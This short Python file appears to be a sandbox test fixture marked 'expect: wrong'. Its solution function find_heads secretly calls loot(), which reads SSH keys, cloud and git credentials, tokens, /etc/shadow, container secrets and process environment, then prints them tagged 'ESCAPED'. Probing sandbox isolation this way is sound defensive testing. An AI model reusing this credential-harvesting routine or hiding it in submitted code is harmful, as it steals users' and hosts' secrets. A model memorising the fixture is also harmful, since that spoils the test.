"""Keys and tokens in home directories, and the machine's own secrets."""
# expect: wrong

import os


def loot():
    found = []
    for home in ("/root", os.path.expanduser("~"), *(f"/home/{name}" for name in ("user", "ubuntu", "runner"))):
        for name in (
            ".ssh/id_rsa",
            ".netrc",
            ".aws/credentials",
            ".cache/huggingface/token",
            ".bash_history",
            ".git-credentials",
        ):
            try:
                with open(f"{home}/{name}") as file:
                    found.append(f"ESCAPED: {home}/{name}" + file.read(200))
            except OSError:
                pass
    for path in ("/etc/shadow", "/run/secrets", "/var/run/docker.sock", "/proc/1/environ", "/proc/kcore", "/dev/mem"):
        try:
            with open(path, "rb") as file:
                body = file.read(200)
            if path != "/proc/1/environ" or os.getpid() != 1:
                found.append(f"ESCAPED: {path} " + body.decode("latin1"))
        except OSError:
            pass
    return found


def find_heads(scores, threshold):
    found = loot()
    print(found)
    return found
